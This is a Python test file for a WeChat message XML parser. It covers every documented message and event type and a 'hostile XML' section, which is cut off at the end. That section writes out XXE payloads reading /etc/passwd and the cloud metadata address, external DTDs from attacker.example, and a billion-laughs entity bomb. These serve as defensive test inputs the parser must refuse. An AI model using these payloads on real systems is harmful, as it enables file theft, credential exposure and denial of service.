"""Tests for replies.protocol.messages: every documented message and event, and hostile XML."""

import pickle
from dataclasses import FrozenInstanceError

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from replies.protocol import messages
from replies.protocol.exceptions import (
    BodyTooLarge,
    ForbiddenXML,
    InvalidEncoding,
    InvalidField,
    InvalidXML,
    MissingField,
    WeChatError,
)
from replies.protocol.messages import (
    IncomingMessage,
    message_from_fields,
    parse_message,
    parse_xml,
    pretty_print_xml,
)
from replies.protocol.vocabulary import qr_scene

# --- realistic samples, shaped like WeChat's documentation ------------------------------------

TEXT = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1348831860</CreateTime>
  <MsgType><![CDATA[text]]></MsgType>
  <Content><![CDATA[你好 hello]]></Content>
  <MsgId>1234567890123456</MsgId>
</xml>""".encode()

TEXT_FROM_ARTICLE = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1348831860</CreateTime>
  <MsgType><![CDATA[text]]></MsgType>
  <Content><![CDATA[评论]]></Content>
  <MsgId>1234567890123457</MsgId>
  <MsgDataId>2247483653</MsgDataId>
  <Idx>1</Idx>
</xml>""".encode()

IMAGE = b"""<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1348831860</CreateTime>
  <MsgType><![CDATA[image]]></MsgType>
  <PicUrl><![CDATA[http://mmbiz.qpic.cn/mmbiz_jpg/abc/0]]></PicUrl>
  <MediaId><![CDATA[media_id_image]]></MediaId>
  <MsgId>1234567890123458</MsgId>
</xml>"""

VOICE = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1357290913</CreateTime>
  <MsgType><![CDATA[voice]]></MsgType>
  <MediaId><![CDATA[media_id_voice]]></MediaId>
  <Format><![CDATA[amr]]></Format>
  <Recognition><![CDATA[腾讯微信团队]]></Recognition>
  <MsgId>1234567890123459</MsgId>
</xml>""".encode()

VIDEO = b"""<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1357290913</CreateTime>
  <MsgType><![CDATA[video]]></MsgType>
  <MediaId><![CDATA[media_id_video]]></MediaId>
  <ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId>
  <MsgId>1234567890123460</MsgId>
</xml>"""

SHORTVIDEO = b"""<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1357290913</CreateTime>
  <MsgType><![CDATA[shortvideo]]></MsgType>
  <MediaId><![CDATA[media_id_short]]></MediaId>
  <ThumbMediaId><![CDATA[thumb_media_id_short]]></ThumbMediaId>
  <MsgId>1234567890123461</MsgId>
</xml>"""

LOCATION = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1351776360</CreateTime>
  <MsgType><![CDATA[location]]></MsgType>
  <Location_X>23.134521</Location_X>
  <Location_Y>113.358803</Location_Y>
  <Scale>20</Scale>
  <Label><![CDATA[广州市天河区]]></Label>
  <MsgId>1234567890123462</MsgId>
</xml>""".encode()

LINK = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1351776360</CreateTime>
  <MsgType><![CDATA[link]]></MsgType>
  <Title><![CDATA[公众平台官网链接]]></Title>
  <Description><![CDATA[公众平台官网链接]]></Description>
  <Url><![CDATA[https://mp.weixin.qq.com/s/abc]]></Url>
  <MsgId>1234567890123463</MsgId>
</xml>""".encode()

MINIPROGRAMPAGE = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1482048670</CreateTime>
  <MsgType><![CDATA[miniprogrampage]]></MsgType>
  <MsgId>1234567890123464</MsgId>
  <AppId><![CDATA[wxapp1234567890]]></AppId>
  <Title><![CDATA[小程序卡片]]></Title>
  <PagePath><![CDATA[pages/index/index?id=1]]></PagePath>
  <ThumbUrl><![CDATA[http://mmbiz.qpic.cn/thumb]]></ThumbUrl>
  <ThumbMediaId><![CDATA[thumb_media_id_mini]]></ThumbMediaId>
</xml>""".encode()

_EVENT_HEAD = """<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1408090502</CreateTime>
  <MsgType><![CDATA[event]]></MsgType>
"""


def _event(rest: str) -> bytes:
    return (_EVENT_HEAD + rest + "</xml>").encode()


SUBSCRIBE = _event("<Event><![CDATA[subscribe]]></Event>\n")
SUBSCRIBE_BY_QR = _event(
    "<Event><![CDATA[subscribe]]></Event>\n"
    "<EventKey><![CDATA[qrscene_123123]]></EventKey>\n"
    "<Ticket><![CDATA[gQH47joAAAAAAAAAASxodHRwOi8vd2VpeGluLnFxLmNvbS9xL2taZ2Z3TVRtNzJXV1Brb3ZhYmJJAAIEZ23sUwMEmm3sUw==]]></Ticket>\n"
)
UNSUBSCRIBE = _event("<Event><![CDATA[unsubscribe]]></Event>\n")
SCAN = _event(
    "<Event><![CDATA[SCAN]]></Event>\n"
    "<EventKey><![CDATA[SCENE_VALUE]]></EventKey>\n"
    "<Ticket><![CDATA[TICKET]]></Ticket>\n"
)
LOCATION_EVENT = _event(
    "<Event><![CDATA[LOCATION]]></Event>\n"
    "<Latitude>23.137466</Latitude>\n"
    "<Longitude>113.352425</Longitude>\n"
    "<Precision>119.385040</Precision>\n"
)
CLICK = _event(
    "<Event><![CDATA[CLICK]]></Event>\n<EventKey><![CDATA[V1001_TODAY_MUSIC]]></EventKey>\n"
)
VIEW = _event(
    "<Event><![CDATA[VIEW]]></Event>\n"
    "<EventKey><![CDATA[https://www.qq.com/]]></EventKey>\n"
    "<MenuId>412345678</MenuId>\n"
)
SCANCODE_PUSH = _event(
    "<Event><![CDATA[scancode_push]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType>"
    "<ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo>\n"
)
SCANCODE_WAITMSG = _event(
    "<Event><![CDATA[scancode_waitmsg]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<ScanCodeInfo><ScanType><![CDATA[barcode]]></ScanType>"
    "<ScanResult><![CDATA[EAN_13,6901234567892]]></ScanResult></ScanCodeInfo>\n"
)
PIC_SYSPHOTO = _event(
    "<Event><![CDATA[pic_sysphoto]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<SendPicsInfo><Count>2</Count>\n"
    "<PicList><item><PicMd5Sum><![CDATA[1b5f7c23b5bf75682a53e7b6d163e185]]></PicMd5Sum></item>\n"
    "<item><PicMd5Sum><![CDATA[2c6f8d34c6cf86793b64f8c7e274f296]]></PicMd5Sum></item>\n"
    "</PicList>\n</SendPicsInfo>\n"
)
PIC_PHOTO_OR_ALBUM = _event(
    "<Event><![CDATA[pic_photo_or_album]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<SendPicsInfo><Count>1</Count>\n"
    "<PicList><item><PicMd5Sum><![CDATA[5a75aaca956d97be686719218f275c6b]]></PicMd5Sum></item>\n"
    "</PicList>\n</SendPicsInfo>\n"
)
PIC_WEIXIN = _event(
    "<Event><![CDATA[pic_weixin]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<SendPicsInfo><Count>1</Count>\n"
    "<PicList><item><PicMd5Sum><![CDATA[5a75aaca956d97be686719218f275c6b]]></PicMd5Sum></item>\n"
    "</PicList>\n</SendPicsInfo>\n"
)
LOCATION_SELECT = _event(
    "<Event><![CDATA[location_select]]></Event>\n"
    "<EventKey><![CDATA[6]]></EventKey>\n"
    "<SendLocationInfo><Location_X><![CDATA[23]]></Location_X>\n"
    "<Location_Y><![CDATA[113]]></Location_Y>\n"
    "<Scale><![CDATA[15]]></Scale>\n"
    "<Label><![CDATA[ 广州市海珠区客村艺苑路 106号]]></Label>\n"
    "<Poiname><![CDATA[]]></Poiname>\n"
    "</SendLocationInfo>\n"
)
VIEW_MINIPROGRAM = _event(
    "<Event><![CDATA[view_miniprogram]]></Event>\n"
    "<EventKey><![CDATA[pages/index/index]]></EventKey>\n"
    "<MenuId>MENUID</MenuId>\n"
)
TEMPLATESENDJOBFINISH = _event(
    "<Event><![CDATA[TEMPLATESENDJOBFINISH]]></Event>\n"
    "<MsgID>200163836</MsgID>\n"
    "<Status><![CDATA[success]]></Status>\n"
)
MASSSENDJOBFINISH = _event(
    "<Event><![CDATA[MASSSENDJOBFINISH]]></Event>\n"
    "<MsgID>1988</MsgID>\n"
    "<Status><![CDATA[sendsuccess]]></Status>\n"
    "<TotalCount>100</TotalCount>\n"
    "<FilterCount>80</FilterCount>\n"
    "<SentCount>75</SentCount>\n"
    "<ErrorCount>5</ErrorCount>\n"
    "<CopyrightCheckResult><Count>2</Count><ResultList>"
    "<item><ArticleIdx>1</ArticleIdx><UserDeclareState>0</UserDeclareState></item>"
    "<item><ArticleIdx>2</ArticleIdx><UserDeclareState>0</UserDeclareState></item>"
    "</ResultList><CheckState>2</CheckState></CopyrightCheckResult>\n"
)
PUBLISHJOBFINISH = _event(
    "<Event><![CDATA[PUBLISHJOBFINISH]]></Event>\n"
    "<PublishEventInfo>\n"
    "<publish_id>2247503051</publish_id>\n"
    "<publish_status>0</publish_status>\n"
    "<article_id><![CDATA[b5O2OUs25HBxRceL7hfReg-U9QGeq9zQjiDvyWP4Hq4]]></article_id>\n"
    "<article_detail><count>1</count>\n"
    "<item><idx>1</idx><article_url><![CDATA[https://mp.weixin.qq.com/s/x]]></article_url></item>\n"
    "</article_detail>\n"
    "</PublishEventInfo>\n"
)
SUBSCRIBE_MSG_POPUP = _event(
    "<Event><![CDATA[subscribe_msg_popup_event]]></Event>\n"
    "<SubscribeMsgPopupEvent><List>\n"
    "<TemplateId><![CDATA[VRR0UEO9VJOLs0MHlU0OilqX6MVFDwH3_3gz3Oc0NIc]]></TemplateId>\n"
    "<SubscribeStatusString><![CDATA[accept]]></SubscribeStatusString>\n"
    "<PopupScene>2</PopupScene>\n"
    "</List></SubscribeMsgPopupEvent>\n"
)
KF_CREATE_SESSION = _event(
    "<Event><![CDATA[kf_create_session]]></Event>\n<KfAccount><![CDATA[test1@test]]></KfAccount>\n"
)
USER_INFO_MODIFIED = _event(
    "<Event><![CDATA[user_info_modified]]></Event>\n<OpenID><![CDATA[oyORnuP8q7ou]]></OpenID>\n"
    "<AppID><![CDATA[wx2c2769f8efd9abc2]]></AppID>\n<RevokeInfo><![CDATA[1]]></RevokeInfo>\n"
)
UNKNOWN_EVENT = _event("<Event><![CDATA[Some_Future_Event]]></Event>\n<Whatever>1</Whatever>\n")
UNKNOWN_TYPE = b"""<xml>
  <ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>
  <FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>
  <CreateTime>1700000000</CreateTime>
  <MsgType><![CDATA[HoloGram]]></MsgType>
  <Payload><Frame>1</Frame><Frame>2</Frame></Payload>
  <MsgId>42</MsgId>
</xml>"""

# (body, msg_type, event, properties expected on the message)
CASES = {
    "text": (TEXT, "text", "", {"content": "你好 hello", "text": "你好 hello"}),
    "text_from_article": (TEXT_FROM_ARTICLE, "text", "", {"content": "评论"}),
    "image": (
        IMAGE,
        "image",
        "",
        {"pic_url": "http://mmbiz.qpic.cn/mmbiz_jpg/abc/0", "media_id": "media_id_image"},
    ),
    "voice": (
        VOICE,
        "voice",
        "",
        {
            "media_id": "media_id_voice",
            "format": "amr",
            "recognition": "腾讯微信团队",
            "text": "腾讯微信团队",
        },
    ),
    "video": (
        VIDEO,
        "video",
        "",
        {"media_id": "media_id_video", "thumb_media_id": "thumb_media_id"},
    ),
    "shortvideo": (
        SHORTVIDEO,
        "shortvideo",
        "",
        {"media_id": "media_id_short", "thumb_media_id": "thumb_media_id_short"},
    ),
    "location": (
        LOCATION,
        "location",
        "",
        {
            "location_x": "23.134521",
            "location_y": "113.358803",
            "scale": "20",
            "label": "广州市天河区",
        },
    ),
    "link": (
        LINK,
        "link",
        "",
        {
            "title": "公众平台官网链接",
            "description": "公众平台官网链接",
            "url": "https://mp.weixin.qq.com/s/abc",
        },
    ),
    "miniprogrampage": (
        MINIPROGRAMPAGE,
        "miniprogrampage",
        "",
        {
            "app_id": "wxapp1234567890",
            "title": "小程序卡片",
            "page_path": "pages/index/index?id=1",
            "thumb_url": "http://mmbiz.qpic.cn/thumb",
            "thumb_media_id": "thumb_media_id_mini",
        },
    ),
    "subscribe": (SUBSCRIBE, "event", "subscribe", {"event_key": "", "scene": ""}),
    "subscribe_by_qr": (
        SUBSCRIBE_BY_QR,
        "event",
        "subscribe",
        {"event_key": "qrscene_123123", "scene": "123123"},
    ),
    "unsubscribe": (UNSUBSCRIBE, "event", "unsubscribe", {}),
    "scan": (
        SCAN,
        "event",
        "scan",
        {"event_key": "SCENE_VALUE", "scene": "SCENE_VALUE", "ticket": "TICKET"},
    ),
    "location_event": (
        LOCATION_EVENT,
        "event",
        "location",
        {"latitude": "23.137466", "longitude": "113.352425", "precision": "119.385040"},
    ),
    "click": (CLICK, "event", "click", {"event_key": "V1001_TODAY_MUSIC", "scene": ""}),
    "view": (
        VIEW,
        "event",
        "view",
        {"event_key": "https://www.qq.com/", "menu_id": "412345678"},
    ),
    "scancode_push": (SCANCODE_PUSH, "event", "scancode_push", {"event_key": "6"}),
    "scancode_waitmsg": (SCANCODE_WAITMSG, "event", "scancode_waitmsg", {"event_key": "6"}),
    "pic_sysphoto": (PIC_SYSPHOTO, "event", "pic_sysphoto", {"event_key": "6"}),
    "pic_photo_or_album": (PIC_PHOTO_OR_ALBUM, "event", "pic_photo_or_album", {}),
    "pic_weixin": (PIC_WEIXIN, "event", "pic_weixin", {}),
    "location_select": (LOCATION_SELECT, "event", "location_select", {"location_x": ""}),
    "view_miniprogram": (
        VIEW_MINIPROGRAM,
        "event",
        "view_miniprogram",
        {"event_key": "pages/index/index", "menu_id": "MENUID"},
    ),
    "templatesendjobfinish": (
        TEMPLATESENDJOBFINISH,
        "event",
        "templatesendjobfinish",
        {"msg_id": "200163836", "status": "success"},
    ),
    "masssendjobfinish": (
        MASSSENDJOBFINISH,
        "event",
        "masssendjobfinish",
        {"msg_id": "1988", "status": "sendsuccess"},
    ),
    "publishjobfinish": (PUBLISHJOBFINISH, "event", "publishjobfinish", {}),
    "subscribe_msg_popup_event": (SUBSCRIBE_MSG_POPUP, "event", "subscribe_msg_popup_event", {}),
    "kf_create_session": (KF_CREATE_SESSION, "event", "kf_create_session", {}),
    "user_info_modified": (USER_INFO_MODIFIED, "event", "user_info_modified", {}),
    "unknown_event": (UNKNOWN_EVENT, "event", "some_future_event", {}),
    "unknown_type": (UNKNOWN_TYPE, "hologram", "", {"msg_id": "42", "text": ""}),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_every_documented_type_parses(name):
    body, msg_type, event, expected = CASES[name]
    message = parse_message(body)
    assert message.to_user == "gh_10f6c3c3ac5a"
    assert message.from_user == "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
    assert isinstance(message.create_time, int) and message.create_time > 1_300_000_000
    assert message.msg_type == msg_type
    assert message.event == event
    assert message.is_event is (msg_type == "event")
    for attribute, value in expected.items():
        assert read(message, attribute) == value, attribute


# Fields the message has no property for: read from the parsed fields, as the endpoint would.
XML_NAMES = {
    "ticket": "Ticket",
    "precision": "Precision",
    "menu_id": "MenuId",
    "status": "Status",
    "app_id": "AppId",
    "page_path": "PagePath",
    "thumb_url": "ThumbUrl",
    "thumb_media_id": "ThumbMediaId",
    "format": "Format",
    "scale": "Scale",
    "description": "Description",
}


def read(message, attribute):
    if attribute == "scene":
        return qr_scene(message.event, message.event_key)
    if attribute in XML_NAMES:
        return message.fields.get(XML_NAMES[attribute], "")
    return getattr(message, attribute)


def test_text_message_fields_and_msg_id():
    message = parse_message(TEXT)
    assert message.create_time == 1348831860
    assert message.msg_id == "1234567890123456"
    assert dict(message.fields) == {
        "ToUserName": "gh_10f6c3c3ac5a",
        "FromUserName": "oyORnuP8q7ou2gfYjqLzSIWZf0rs",
        "CreateTime": "1348831860",
        "MsgType": "text",
        "Content": "你好 hello",
        "MsgId": "1234567890123456",
    }


def test_text_from_an_article_keeps_msg_data_id_and_idx():
    fields = parse_message(TEXT_FROM_ARTICLE).fields
    assert (fields["MsgDataId"], fields["Idx"]) == ("2247483653", "1")


def test_subscribe_by_qr_code_gives_scene_without_prefix_and_ticket():
    message = parse_message(SUBSCRIBE_BY_QR)
    assert qr_scene(message.event, message.event_key) == "123123"
    assert message.fields["Ticket"].startswith("gQH47joAAAAAAAAAASxodHRw")


def test_text_property_is_empty_for_non_text_messages():
    assert parse_message(IMAGE).text == ""
    assert parse_message(CLICK).text == ""


def test_absent_properties_read_as_empty_strings():
    message = parse_message(UNSUBSCRIBE)
    for name in ("content", "media_id", "event_key", "msg_id", "url", "title", "label"):
        assert getattr(message, name) == ""


def test_scan_code_info_is_a_nested_dict():
    info = parse_message(SCANCODE_WAITMSG).fields["ScanCodeInfo"]
    assert info == {"ScanType": "barcode", "ScanResult": "EAN_13,6901234567892"}


def test_send_pics_info_with_two_items_is_a_list():
    info = parse_message(PIC_SYSPHOTO).fields["SendPicsInfo"]
    assert info["Count"] == "2"
    assert info["PicList"]["item"] == [
        {"PicMd5Sum": "1b5f7c23b5bf75682a53e7b6d163e185"},
        {"PicMd5Sum": "2c6f8d34c6cf86793b64f8c7e274f296"},
    ]


def test_send_pics_info_with_one_item_is_a_single_dict():
    info = parse_message(PIC_PHOTO_OR_ALBUM).fields["SendPicsInfo"]
    assert info["PicList"]["item"] == {"PicMd5Sum": "5a75aaca956d97be686719218f275c6b"}


def test_send_location_info_keeps_whitespace_and_empty_leaves():
    info = parse_message(LOCATION_SELECT).fields["SendLocationInfo"]
    assert info == {
        "Location_X": "23",
        "Location_Y": "113",
        "Scale": "15",
        "Label": " 广州市海珠区客村艺苑路 106号",
        "Poiname": "",
    }


def test_publish_event_info_is_nested_three_levels():
    info = parse_message(PUBLISHJOBFINISH).fields["PublishEventInfo"]
    assert info["publish_id"] == "2247503051"
    assert info["publish_status"] == "0"
    assert info["article_detail"]["item"] == {
        "idx": "1",
        "article_url": "https://mp.weixin.qq.com/s/x",
    }


def test_mass_send_report_lists_repeated_items():
    fields = parse_message(MASSSENDJOBFINISH).fields
    assert fields["TotalCount"] == "100"
    items = fields["CopyrightCheckResult"]["ResultList"]["item"]
    assert [item["ArticleIdx"] for item in items] == ["1", "2"]


def test_unknown_type_keeps_everything_it_carried():
    fields = parse_message(UNKNOWN_TYPE).fields
    assert fields["Payload"] == {"Frame": ["1", "2"]}


@pytest.mark.parametrize("spelling", ["SCAN", "scan", "Scan", " SCAN "])
def test_events_compare_case_insensitively(spelling):
    body = SCAN.replace(b"<![CDATA[SCAN]]>", f"<![CDATA[{spelling}]]>".encode())
    assert parse_message(body).event == "scan"


def test_msg_type_is_lower_cased_and_stripped():
    # WeChat's own sample has whitespace before the CDATA section of MsgType.
    body = TEXT.replace(b"<![CDATA[text]]>", b"  <![CDATA[TEXT]]>")
    assert parse_message(body).msg_type == "text"


def test_event_is_empty_unless_msg_type_is_event():
    body = TEXT.replace(b"</xml>", b"<Event>subscribe</Event></xml>")
    assert parse_message(body).event == ""


def test_msg_id_is_read_from_either_spelling():
    assert parse_message(TEMPLATESENDJOBFINISH).msg_id == "200163836"
    assert parse_message(TEXT).msg_id == "1234567890123456"


def test_cdata_and_plain_text_read_the_same_and_whitespace_is_kept():
    cdata = TEXT.replace(b"<![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd hello]]>", b"<![CDATA[  a <b> &\n ]]>")
    plain = TEXT.replace(b"<![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd hello]]>", b"  a &lt;b&gt; &amp;\n ")
    assert parse_message(cdata).content == parse_message(plain).content == "  a <b> &\n "


def test_character_references_are_decoded():
    body = TEXT.replace(b"<![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd hello]]>", b"&#60;&#x1F600;")
    assert parse_message(body).content == "<😀"


def test_text_mentioning_doctype_inside_cdata_is_a_normal_message():
    # A follower can type this; only a real DOCTYPE before the root is refused.
    body = TEXT.replace(
        b"\xe4\xbd\xa0\xe5\xa5\xbd hello", b'<!DOCTYPE html><!ENTITY x SYSTEM "file:///">&x;'
    )
    assert parse_message(body).content == '<!DOCTYPE html><!ENTITY x SYSTEM "file:///">&x;'


@pytest.mark.parametrize(
    "declaration",
    [
        b'<?xml version="1.0"?>',
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b"<?xml version='1.0' encoding='utf-8' standalone='yes'?>",
        b'\xef\xbb\xbf<?xml version="1.0" encoding="utf8"?>\n',
        b"\xef\xbb\xbf",
        b"<!-- a comment first -->\n",
    ],
)
def test_utf8_declarations_bom_and_prolog_comments_are_accepted(declaration):
    assert parse_message(declaration + TEXT).content == "你好 hello"


def test_fields_are_read_only_and_the_message_frozen():
    message = parse_message(TEXT)
    with pytest.raises(TypeError):
        message.fields["Content"] = "changed"
    with pytest.raises(FrozenInstanceError):
        message.msg_type = "image"


def test_message_is_hashable_comparable_and_picklable():
    message = parse_message(TEXT)
    assert message == parse_message(TEXT)
    assert hash(message) == hash(parse_message(TEXT))
    restored = pickle.loads(pickle.dumps(message))  # noqa: S301 - our own bytes
    assert restored == message
    assert isinstance(restored, IncomingMessage)
    with pytest.raises(TypeError):
        restored.fields["Content"] = "changed"


def test_message_from_fields_copies_its_input():
    fields = parse_xml(TEXT)
    message = message_from_fields(fields)
    fields["Content"] = "changed"
    assert message.content == "你好 hello"


@pytest.mark.parametrize("name", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
@pytest.mark.parametrize("value", [None, "", "   "])
def test_missing_or_empty_required_field_is_named(name, value):
    fields = parse_xml(TEXT)
    if value is None:
        del fields[name]
    else:
        fields[name] = value
    with pytest.raises(MissingField) as caught:
        message_from_fields(fields)
    assert name in caught.value.message
    assert caught.value.status == 400


@pytest.mark.parametrize(
    "create_time", ["abc", "-1", "+1", "1.5", "1_000", "١٢٣", "1" * 13, "0x10"]
)
def test_non_integer_create_time_is_invalid(create_time):
    fields = parse_xml(TEXT)
    fields["CreateTime"] = create_time
    with pytest.raises(InvalidField) as caught:
        message_from_fields(fields)
    assert "CreateTime" in caught.value.message


def test_create_time_with_surrounding_whitespace_is_accepted():
    body = TEXT.replace(b"<CreateTime>1348831860", b"<CreateTime>\n 1348831860 \n")
    assert parse_message(body).create_time == 1348831860


@pytest.mark.parametrize("name", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_nested_required_field_is_invalid(name):
    fields = parse_xml(TEXT)
    fields[name] = {"a": ""}
    with pytest.raises(InvalidField):
        message_from_fields(fields)
    fields[name] = ["1", "2"]  # the tag repeated
    with pytest.raises(InvalidField):
        message_from_fields(fields)


def test_nested_value_where_text_is_expected_reads_as_empty():
    body = TEXT.replace(b"<![CDATA[\xe4\xbd\xa0\xe5\xa5\xbd hello]]>", b"<a/><b>x</b>")
    message = parse_message(body)
    assert message.content == ""
    assert message.text == ""
    assert message.fields["Content"] == {"a": "", "b": "x"}


def test_nested_event_and_event_key_read_as_empty():
    body = CLICK.replace(b"<![CDATA[CLICK]]>", b"<x/>").replace(
        b"<![CDATA[V1001_TODAY_MUSIC]]>", b"<y/>"
    )
    message = parse_message(body)
    assert (message.event, message.event_key) == ("", "")


def test_repeated_content_tag_reads_as_empty_text():
    body = TEXT.replace(b"</xml>", b"<Content>second</Content></xml>")
    message = parse_message(body)
    assert message.fields["Content"] == ["你好 hello", "second"]
    assert message.content == ""


# --- hostile XML -----------------------------------------------------------------------------

HOSTILE = {
    "file_entity": (
        b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<xml><ToUserName>&xxe;</ToUserName></xml>",
        ForbiddenXML,
    ),
    "network_entity": (
        b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
        b"<xml><Content>&xxe;</Content></xml>",
        ForbiddenXML,
    ),
    "external_dtd": (
        b'<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd"><xml><a>1</a></xml>',
        ForbiddenXML,
    ),
    "parameter_entity": (
        b'<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
        b"<xml><a>1</a></xml>",
        ForbiddenXML,
    ),
    "billion_laughs": (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
        + b"]><xml><Content>&lol9;</Content></xml>",
        ForbiddenXML,
    ),
    "doctype_after_comment": (
        b'<!-- hi --><!DOCTYPE xml [<!ENTITY e "x">]><xml><a>&e;</a></xml>',
        ForbiddenXML,
    ),
    "doctype_after_bom": (
        b'\xef\xbb\xbf<!DOCTYPE xml [<!ENTITY e "x">]><xml><a>&e;</a></xml>',
        ForbiddenXML,
    ),
    "undeclared_entity": (b"<xml><Content>&xxe;</Content></xml>", InvalidXML),
    "latin1_declaration": (
        b'<?xml version="1.0" encoding="ISO-8859-1"?><xml><a>x</a></xml>',
        InvalidEncoding,
    ),
    "gbk_declaration": (
        b"<?xml version='1.0' encoding='GBK'?><xml><a>x</a></xml>",
        InvalidEncoding,
    ),
    "invalid_utf8": (b"<xml><Content>\xff\xfe</Content></xml>", InvalidEncoding),
    "gbk_bytes": ("<xml><Content>你好</Content></xml>".encode("gbk"), InvalidEncoding),
    "utf16_with_bom": ("<xml><Content>hi</Content></xml>".encode("utf-16"), InvalidEncoding),
    "truncated": (TEXT[: len(TEXT) // 2], InvalidXML),
    "unclosed_cdata": (b"<xml><Content><![CDATA[abc</Content></xml>", InvalidXML),
    "unclosed_declaration": (b'<?xml version="1.0"', InvalidXML),
    "two_roots": (b"<xml></xml><xml></xml>", InvalidXML),
    "empty": (b"", InvalidXML),
    "whitespace": (b" \n\t ", InvalidXML),
    "not_xml": (b'{"MsgType": "text"}', InvalidXML),
    "root_not_xml": (b"<root><MsgType>text</MsgType></root>", InvalidXML),
    "root_with_namespace": (b'<xml xmlns="urn:x"><a>1</a></xml>', InvalidXML),
    "nine_levels": (b"<xml>" + b"<a>" * 8 + b"x" + b"</a>" * 8 + b"</xml>", InvalidXML),
    "very_deep": (b"<xml>" + b"<a>" * 30_000 + b"</a>" * 30_000 + b"</xml>", InvalidXML),
    "too_large": (
        b"<xml><Content>" + b"x" * messages.MAX_BODY_BYTES + b"</Content></xml>",
        BodyTooLarge,
    ),
}


# Refused by the cheap checks before lxml sees a byte: size, UTF-8, the prolog (any DOCTYPE,
# so no entity is ever declared, let alone expanded) and emptiness.
REFUSED_BEFORE_PARSING = {
    name
    for name, (_, error) in HOSTILE.items()
    if error in (ForbiddenXML, BodyTooLarge, InvalidEncoding)
} | {"empty", "whitespace", "unclosed_declaration"}


class CountingEtree:
    """Stands in for lxml.etree inside replies.protocol.messages, counting parser runs."""

    def __init__(self):
        self.parsed = []

    def __getattr__(self, name):
        return getattr(etree, name)

    def fromstring(self, body, parser=None):
        self.parsed.append(len(body))
        return etree.fromstring(body, parser)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_xml_is_refused_with_the_right_error_parsing_at_most_once(name, monkeypatch):
    body, error = HOSTILE[name]
    spy = CountingEtree()
    monkeypatch.setattr(messages, "etree", spy)
    with pytest.raises(error) as caught:
        parse_xml(body)
    assert len(spy.parsed) == (0 if name in REFUSED_BEFORE_PARSING else 1), spy.parsed
    assert 400 <= caught.value.status < 500
    # Nothing of lxml's internals, the files it names, or the body leaks into the message.
    for leak in ("/etc/passwd", "<string>", "lxml", "libxml", "169.254", "attacker"):
        assert leak not in caught.value.message


def test_eight_levels_are_allowed():
    body = b"<xml>" + b"<a>" * 7 + b"x" + b"</a>" * 7 + b"</xml>"
    value = parse_xml(body)
    for _ in range(6):
        value = value["a"]
    assert value == {"a": "x"}


def test_forbidden_xml_is_an_invalid_xml_with_wechat_parse_errcode():
    assert issubclass(ForbiddenXML, InvalidXML)
    assert ForbiddenXML.errcode == InvalidXML.errcode == -40002


def test_parser_itself_does_not_expand_entities_or_read_files():
    # Second lock behind the DOCTYPE refusal: the shared parser alone must not resolve.
    body = (
        b'<!DOCTYPE xml [<!ENTITY inner "EXPANDED"><!ENTITY outer SYSTEM "file:///etc/passwd">]>'
